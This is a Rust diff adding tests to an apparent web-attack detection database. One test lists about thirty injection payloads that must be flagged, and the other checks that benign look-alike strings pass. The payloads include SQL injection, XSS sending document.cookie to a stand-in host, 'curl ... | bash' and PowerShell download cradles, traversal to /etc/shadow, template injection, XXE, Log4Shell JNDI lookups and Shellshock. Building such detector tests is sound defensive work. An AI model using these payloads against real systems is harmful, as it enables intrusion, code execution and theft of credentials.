@@ -161,3 +161,126 @@ fn fuzz_seeds_never_panic() {
         }
     }
 }
+
+/// Hand-written attacks of every class, none taken from the evaluation corpus: the database must
+/// generalise beyond the samples it was tuned on.
+#[test]
+fn unseen_attacks_of_every_class_are_detected() {
+    let attacks: &[(Target, &str)] = &[
+        (
+            Target::ParamValue,
+            "-1' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- -",
+        ),
+        (
+            Target::ParamValue,
+            "1 AND (SELECT 5171 FROM (SELECT(SLEEP(5)))xYzA)",
+        ),
+        (Target::Json, "admin\"/**/or/**/1=1#"),
+        (Target::Cookie, "abc'; EXEC xp_cmdshell('whoami');--"),
+        (
+            Target::ParamValue,
+            "<details open ontoggle=fetch('//x.example/'+document.cookie)>",
+        ),
+        (Target::ParamValue, "<svg><script href=data:,alert(1) />"),
+        (Target::Header, "\"><img src=1 onerror=confirm`1`>"),
+        (
+            Target::ParamValue,
+            "x;curl -s http://198.51.100.7/a.sh|bash",
+        ),
+        (Target::ParamValue, "$(nslookup `whoami`.x.example)"),
+        (
+            Target::ParamValue,
+            "127.0.0.1 | powershell -nop -c iex(New-Object Net.WebClient)",
+        ),
+        (Target::ParamValue, "....//....//....//etc/shadow"),
+        (Target::Url, "/static/..%5c..%5c..%5cwindows/win.ini"),
+        (
+            Target::ParamValue,
+            "php://filter/read=convert.base64-encode/resource=../config.php",
+        ),
+        (Target::ParamValue, "https://198.51.100.3/shell.txt?"),
+        (
+            Target::ParamValue,
+            "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
+        ),
+        (
+            Target::ParamValue,
+            "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
+        ),
+        (Target::Json, "{\"$where\": \"sleep(5000) || true\"}"),
+        (Target::ParamName, "password[$regex]"),
+        (Target::ParamValue, "*)(|(cn=*))"),
+        (
+            Target::Xml,
+            "<!DOCTYPE r [<!ENTITY % ext SYSTEM \"http://x.example/e.dtd\"> %ext;]>",
+        ),
+        (Target::ParamValue, "http://[::ffff:127.0.0.1]:6379/"),
+        (Target::Header, "${jndi:rmi://x.example:1099/o}"),
+        (Target::Header, "() { ignored; }; /bin/bash -c 'id'"),
+        (Target::ParamValue, "en\r\nLocation: https://evil.example/"),
+        (
+            Target::ParamValue,
+            "<!--#include virtual=\"/etc/passwd\" -->",
+        ),
+        (
+            Target::ParamValue,
+            "require('child_process').execSync('cat /etc/passwd')",
+        ),
+        (
+            Target::ParamValue,
+            "java.lang.Runtime.getRuntime().exec(new String[]{\"sh\",\"-c\",\"id\"})",
+        ),
+        (
+            Target::Header,
+            "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
+        ),
+        (Target::ParamValue, "x@example.com%0ABcc:all@example.com"),
+        (
+            Target::ParamValue,
+            "O:8:\"Example1\":1:{s:10:\"cache_file\";s:15:\"../../index.php\";}",
+        ),
+    ];
+    let mut missed = Vec::new();
+    for (t, a) in attacks {
+        let mut hits = Vec::new();
+        db().scan(*t, a.as_bytes(), &mut hits);
+        if hits.is_empty() {
+            missed.push(*a);
+        }
+    }
+    assert!(missed.is_empty(), "missed: {missed:#?}");
+}
+
+/// Ordinary input that looks a little like an attack must pass.
+#[test]
+fn benign_near_misses_pass() {
+    let benign = [
+        "Please select a union representative from the list",
+        "Drop me a line; I'll update you on Monday",
+        "rock & roll | jazz; blues",
+        "C:/Users/me/Documents/report.docx",
+        "The script ran; see /var/tmp for output",
+        "width=100&height=200",
+        "I'd like 2 <3 of these",
+        "email me at first.last+tag@example.co.uk",
+        "SELECT-ed items: 4",
+        "what's 5 * 6?",
+        "Sleep well, and dream",
+        "1.2.3",
+        "Tom's order #42 (urgent)",
+        "{\"user\":\"alice\",\"roles\":[\"reader\"]}",
+        "Java and JavaScript are different languages",
+        "curl up with a good book",
+        "price: $19.99",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15",
+    ];
+    let mut flagged = Vec::new();
+    for b in benign {
+        let mut hits = Vec::new();
+        db().scan(Target::ParamValue, b.as_bytes(), &mut hits);
+        if !hits.is_empty() {
+            flagged.push(format!("{b:?} -> {hits:?}"));
+        }
+    }
+    assert!(flagged.is_empty(), "{flagged:#?}");
+}
